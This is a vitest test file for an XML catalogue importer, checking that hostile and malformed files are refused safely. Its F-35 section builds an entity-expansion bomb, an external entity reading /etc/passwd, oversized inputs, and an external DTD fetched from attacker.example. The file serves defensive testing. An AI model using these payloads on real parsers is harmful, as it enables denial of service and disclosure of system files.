import { describe, expect, test } from 'vitest'
import { importCourses } from '~/domain/catalogues/catalogue.commands.server'
import { systemContext } from '~/kit/context.server'
import { FileRefused } from '~/kit/intake-report'
import { catalogue, fileOf, importText, readPieces, readText } from '#tests/support/catalogues'
import { testDatabase } from '#tests/support/database'

const test$ = testDatabase()
const context = () => systemContext(test$.db, new Date('2026-11-21T10:00:00Z'))

const good = catalogue([{ id: 'c1', title: 'Plumbing' }])
const withProlog = (prolog: string) => good.replace('?>', `?>${prolog}`)
/** A file in pieces: what stands before the middle, the middle many times, and what stands after it. */
type Attack = { before: string; middle: string; times: number; after: string }

const around = (place: string, before: string, middle: string, times: number): Attack => {
  const [head = '', tail = ''] = good.split(place)
  return { before: head + before, middle, times, after: tail }
}
const whole = (text: string): Attack => ({ before: text, middle: '', times: 0, after: '' })

const bomb = `<!DOCTYPE catalog [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "${'&a;'.repeat(10)}">`).join('')}]>`
const external = '<!DOCTYPE catalog [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
const piece = 'a'.repeat(64 * 1024)
const HUNDRED_MEGABYTES = 1600

const attacks: [string, Attack][] = [
  ['an XML bomb', whole(withProlog(bomb).replace('Plumbing', '&a19;'))],
  ['an external entity', whole(withProlog(external).replace('Plumbing', '&x;'))],
  ['elements nested without end', around('Plumbing', '', '<xhtml:div>', 100_000)],
  ['an attribute of 100 MB', around('<course>', '<course x="', piece, HUNDRED_MEGABYTES)],
  ['a text of 100 MB', around('Plumbing', '', piece, HUNDRED_MEGABYTES)],
  ['a comment of 100 MB', around('<course>', '<!--', piece, HUNDRED_MEGABYTES)],
  ['a DOCTYPE of 100 MB', around('?>', '?><!DOCTYPE catalog [', piece, HUNDRED_MEGABYTES)],
  ['a course of a hundred thousand elements', around('<presentation>', '', '<dc:subject>x</dc:subject>', 100_000)],
]

describe('F-35: hostile XML', () => {
  test.each(attacks)('%s is refused within a second and without filling the memory', async (_name, attack) => {
    const before = process.memoryUsage().rss
    const begun = performance.now()

    const reading = readPieces(piecesOf(attack))

    await expect(reading).rejects.toBeInstanceOf(FileRefused)
    expect(performance.now() - begun).toBeLessThan(15_000) // one second on a quiet machine; the tests share theirs
    expect((process.memoryUsage().rss - before) / 1024 / 1024).toBeLessThan(120) // of which the test's own rubbish is most
  })

  test('an external DTD is not fetched', async () => {
    const { tally } = await readText(withProlog('<!DOCTYPE catalog SYSTEM "http://attacker.example/x.dtd">'))

    expect(tally.courses).toBe(1)
  })
})

async function* piecesOf({ before, middle, times, after }: Attack) {
  yield before
  for (let time = 0; time < times; time += 1) yield middle
  yield after
}

describe('F-36: broken and strange files', () => {
  const utf16 = Buffer.from(`\ufeff${good}`, 'utf16le')
  const latin = good.replace('encoding="UTF-8"', 'encoding="windows-1252"').replace('Plumbing', 'Café work')

  test.each<[string, string | Buffer, string]>([
    ['a byte order mark', `\ufeff${good}`, 'Plumbing'],
    ['blank lines before the declaration', `\n\n  ${good}`, 'Plumbing'],
    ['UTF-16 with a mark', utf16, 'Plumbing'],
    ['UTF-16 without a mark', utf16.subarray(2), 'Plumbing'],
    ['Windows-1252, as declared', Buffer.from(latin, 'latin1'), 'Café work'],
    ['Windows-1252 that says it is UTF-8', Buffer.from(good.replace('Plumbing', 'Café work'), 'latin1'), 'Café work'],
    ['Windows line ends', good.replaceAll('\n', '\r\n'), 'Plumbing'],
    ['one single line', good.replaceAll('\n', ''), 'Plumbing'],
    ['a bare DOCTYPE', withProlog('<!DOCTYPE catalog>'), 'Plumbing'],
  ])('%s is read', async (_name, content, title) => {
    const ctx = context()

    const report = await importText(ctx, content)

    expect(report.status).toBe('done')
    expect(await ctx.db.selectFrom('course').select('title').execute()).toEqual([{ title }])
  })

  test.each<[string, string | Buffer, string]>([
    ['a file cut off in the middle', good.slice(0, -60), 'xml-not-well-formed'],
    ['an empty character', good.replace('Plumbing', 'Plumb\u0001ing'), 'xml-not-well-formed'],
    ['an entity of HTML', good.replace('Plumbing', 'Plumbing&nbsp;work'), 'xml-not-well-formed'],
    ['a page of HTML', '<html><body>Not found</body></html>', 'not-a-catalogue'],
    ['a feed of news', '<?xml version="1.0"?><rss><channel/></rss>', 'not-a-catalogue'],
    ['plain words', 'Plumbing, Bakery', 'xml-not-well-formed'],
    ['CSV', 'title,level\nPlumbing,2\n', 'xml-not-well-formed'],
  ])('%s is refused and nothing is stored', async (_name, content, code) => {
    const ctx = context()

    const report = await importText(ctx, content)

    expect(report).toMatchObject({ status: 'refused', counts: {} })
    expect(report.findings.at(-1)).toMatchObject({ severity: 'error', code })
    expect(await ctx.db.selectFrom('course').select('id').execute()).toEqual([])
  })

  test.each<[string, string | Buffer, string]>([
    ['an empty file', '', 'file-empty'],
    ['a file with NUL characters', Buffer.from(good.replace('Plumbing', 'Plumb\u0000ing')), 'nul-byte'],
  ])('%s is not even opened', async (_name, content, code) => {
    await expect(fileOf(content)).rejects.toMatchObject({ code })
  })

  test('a catalogue of more than 50 MB is refused', async () => {
    const file = { ...(await fileOf(good)), bytes: 51 * 1024 * 1024 }

    const report = await importCourses(context(), file)

    expect(report.findings).toMatchObject([{ code: 'file-too-large' }])
  })
})
